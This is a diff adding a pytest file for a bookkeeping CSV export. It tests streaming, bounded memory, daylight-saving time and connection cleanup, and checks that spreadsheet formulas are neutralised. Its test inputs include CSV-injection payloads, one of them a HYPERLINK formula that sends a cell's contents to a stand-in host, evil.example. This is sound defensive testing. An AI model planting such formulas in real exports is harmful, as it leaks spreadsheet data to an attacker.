@@ -1,0 +1,194 @@
+"""The bookkeeping CSV export (server/export.py): streamed, in constant memory, both dialects exact.
+
+Over the real HTTP API on SQLite and PostgreSQL. Correctness: every row of both
+dialects equals the row formatted the slow, obvious way (zoneinfo per row,
+floreyn.text.csv_cell per cell) from the same postings, formulas neutralised.
+Streaming: the first rows reach the client while the server has not read the
+last; memory: formatting 40 times the batch size costs no more than a few batches.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import random
+import time
+import threading
+import tracemalloc
+import uuid
+
+import pytest
+import requests
+from sqlalchemy import select
+
+from floreyn.server import export, state
+from floreyn.server import schema as s
+from floreyn.text import csv_cell
+
+PERIOD = {"from": "2000-01-01", "to": "2999-12-31"}
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"klik")', "+31 6 kwaad", "-2+3", "@SUM(A1:A9)", "\tverborgen")
+PLAIN_TEXT = ("puntkomma; komma, \"aanhalingstekens\"\nen een nieuwe regel", "-12.50")  # a plain number stays one
+BATCH_ROWS = 50
+FILL_PAIRS = 10_000  # 20,000 postings: 400 batches, some 2.4 MB of CSV
+WAIT_S = 30.0
+
+
+def _download(srv, **params) -> requests.Response:
+    return srv.session.get(srv.base_url + "/v1/admin/reports/export.csv", params={**PERIOD, **params},
+                           headers={"Authorization": f"Bearer {srv.admin_token}"}, stream=True, timeout=WAIT_S)
+
+
+def _fill(db, pairs: int, memo_chars: int = 20) -> None:
+    """Balanced synthetic transfers spread over a year (DST changes included), written straight to the ledger."""
+    rng = random.Random(7)
+    start_ms = state.day_start_ms(dt.date(2031, 1, 1))
+    txs, postings = [], []
+    for n in range(pairs):
+        tx_id, at_ms = f"fill-{uuid.uuid4().hex}", start_ms + n * (366 * 86_400_000 // pairs) + rng.randint(0, 999)
+        amount = rng.randint(1, 99_999)
+        txs.append({"tx_id": tx_id, "kind": "reversal", "created_ms": at_ms, "memo": "x" * memo_chars,
+                    "terminal_id": "-T" if n % 7 == 0 else None})  # an id a spreadsheet would read as a formula
+        postings += [{"tx_id": tx_id, "account": "member:a", "currency": "fl", "amount_cents": -amount,
+                      "kind": "reversal", "created_ms": at_ms},
+                     {"tx_id": tx_id, "account": "member:b", "currency": "fl", "amount_cents": amount,
+                      "kind": "reversal", "created_ms": at_ms}]
+
+    def write(conn):
+        conn.execute(s.transactions.insert(), txs)
+        conn.execute(s.postings.insert(), postings)
+    db.write(write)
+
+
+def _expected(db, dialect: str) -> list[list[str]]:
+    """Every posting formatted the obvious way, in posting order."""
+    p, t = s.postings.c, s.transactions.c
+    rows = db.read(lambda conn: conn.execute(
+        select(p.created_ms, p.tx_id, p.kind, p.account, p.currency, p.amount_cents, t.terminal_id, t.record_seq,
+               t.merchant_id, t.card_id, t.reverses, t.memo)
+        .join_from(s.postings, s.transactions, t.tx_id == p.tx_id).order_by(p.id)).all())
+    decimal = "," if dialect == "nl" else "."
+    out = []
+    for ms, tx_id, kind, account, currency, cents, terminal, seq, merchant, card, reverses, memo in rows:
+        when = dt.datetime.fromtimestamp(ms / 1000, state.TZ)
+        amount = f"{'-' if cents < 0 else ''}{abs(cents) // 100}{decimal}{abs(cents) % 100:02d}"
+        cells = [when.date().isoformat(), when.strftime("%H:%M:%S"), tx_id, kind, account, currency, amount,
+                 cents, terminal, seq, merchant, card, reverses, memo]
+        out.append([str(csv_cell("" if v is None else str(v) if not isinstance(v, str) else v)) for v in cells])
+    return out
+
+
+def _hold_at_batch(monkeypatch, number: int, go_on: threading.Event) -> list[int]:
+    """Small batches, and the server's generator waits at batch `number` until `go_on` (bounded); the sizes
+    of the batches it formatted are returned as they come."""
+    monkeypatch.setattr(export, "EXPORT_BATCH_ROWS", BATCH_ROWS)
+    batches: list[int] = []
+    formatted = export._rows
+
+    def held_rows(batch, clock, decimal):
+        batches.append(len(batch))
+        if len(batches) == number:
+            assert go_on.wait(WAIT_S), "the client never went on"
+        return formatted(batch, clock, decimal)
+
+    monkeypatch.setattr(export, "_rows", held_rows)
+    return batches
+
+
+@pytest.fixture(scope="module")
+def ledger_with_formulas(srv, world):
+    member, _ = world.member(eur_cents=5_000)
+    for reason in FORMULAS + PLAIN_TEXT:
+        top = srv.admin("POST", "/v1/admin/desk/topup", {"member_id": member, "eur_cents": 100})
+        srv.admin("POST", f"/v1/admin/transactions/{top['tx_id']}/reverse", {"reason": reason})
+    _fill(srv.ctx.db, FILL_PAIRS)
+    return srv.ctx.db
+
+
+@pytest.mark.parametrize("dialect", ["plain", "nl"])
+def test_both_dialects_equal_the_obvious_formatting_with_formulas_neutralised(srv, ledger_with_formulas, dialect):
+    with _download(srv, dialect=dialect) as resp:
+        assert resp.status_code == 200 and "content-length" not in resp.headers  # chunked: streamed, not built
+        raw = resp.content
+    text = raw.decode("utf-8")
+    if dialect == "nl":
+        assert text.startswith("\ufeff")
+        text = text[1:]
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if dialect == "nl" else ","))
+    header = [export.HEADERS_NL[c] for c in export.CSV_COLUMNS] if dialect == "nl" else list(export.CSV_COLUMNS)
+    assert rows[0] == header
+    assert rows[1:] == _expected(ledger_with_formulas, dialect)
+    memos = {r[-1] for r in rows[1:]}
+    assert {"'" + reason for reason in FORMULAS} <= memos and set(PLAIN_TEXT) <= memos
+    assert any(r[8] == "'-T" for r in rows[1:])  # ids are neutralised too
+    assert sum(int(r[7]) for r in rows[1:] if r[5] == "fl") == 0
+
+
+def test_the_first_rows_arrive_before_the_server_reads_the_last(srv, ledger_with_formulas, monkeypatch):
+    """The server's generator is held at its second batch until the client has read the first: a server
+    that built the file before sending would never send those bytes, and the read would time out."""
+    first_read = threading.Event()
+    batches = _hold_at_batch(monkeypatch, 2, first_read)
+    with _download(srv) as resp:
+        lines = resp.iter_lines()
+        got = [next(lines) for _ in range(1 + BATCH_ROWS)]  # the header and the whole first batch
+        assert len(batches) <= 2 and got[0].startswith(b"date,time,")
+        first_read.set()
+        rest = sum(1 for _ in lines)
+    assert len(batches) > 10 and sum(batches) >= 2 * FILL_PAIRS
+    assert rest >= 2 * FILL_PAIRS - BATCH_ROWS
+
+
+def test_memory_stays_bounded_by_the_batch_not_the_export(srv, ledger_with_formulas, monkeypatch):
+    monkeypatch.setattr(export, "EXPORT_BATCH_ROWS", BATCH_ROWS)
+    db = ledger_with_formulas
+    total = 0
+    for _ in export.csv_export(db, PERIOD["from"], PERIOD["to"]):
+        pass  # once before measuring: the compiled statement and the lazy imports are not the export's rows
+    tracemalloc.start()
+    try:
+        for chunk in export.csv_export(db, PERIOD["from"], PERIOD["to"]):
+            total += len(chunk)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert total > 2 * FILL_PAIRS * 60
+    assert peak < total / 4, f"peak {peak:,} bytes for an export of {total:,} bytes"
+
+
+def test_local_time_matches_zoneinfo_across_summer_time_changes():
+    clock = export._LocalClock()
+    rng = random.Random(3)
+    changes = [dt.datetime(2031, 3, 30, tzinfo=dt.UTC), dt.datetime(2031, 10, 26, tzinfo=dt.UTC)]
+    stamps = sorted(int(c.timestamp() * 1000) + rng.randint(0, 4 * 3_600_000) for c in changes for _ in range(5_000))
+    for ms in stamps:
+        when = dt.datetime.fromtimestamp(ms / 1000, state.TZ)
+        assert clock(ms) == (when.date().isoformat(), when.strftime("%H:%M:%S")), ms
+
+
+def test_a_bad_period_or_dialect_is_refused_before_the_stream_starts(srv):
+    bad = srv.admin("GET", "/v1/admin/reports/export.csv", expect=422, **{"from": "2020-02-30", "to": "2020-03-01"})
+    assert bad["error"] == "request_invalid"
+    wrong = srv.admin("GET", "/v1/admin/reports/export.csv", expect=422, dialect="excel", **PERIOD)
+    assert wrong["error"] == "request_invalid"
+
+
+def test_a_download_broken_off_gives_the_connection_back(srv, ledger_with_formulas, monkeypatch):
+    """A client that hangs up mid-export must not leave a read transaction open (on SQLite it would keep
+    the WAL from being checkpointed; on PostgreSQL it would hold a pooled connection and a snapshot)."""
+    hung_up = threading.Event()
+    batches = _hold_at_batch(monkeypatch, 3, hung_up)
+    pool = srv.ctx.db.snapshot_reader.pool
+    idle = pool.checkedout()
+    resp = _download(srv)
+    lines = resp.iter_lines()
+    for _ in range(1 + BATCH_ROWS):
+        next(lines)
+    assert pool.checkedout() == idle + 1  # the export holds its connection while it streams
+    resp.close()  # hang up without reading the rest
+    hung_up.set()
+    deadline = time.monotonic() + WAIT_S
+    while pool.checkedout() > idle and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert pool.checkedout() == idle
+    assert len(batches) < 2 * FILL_PAIRS // BATCH_ROWS  # it stopped, it did not read on to the end
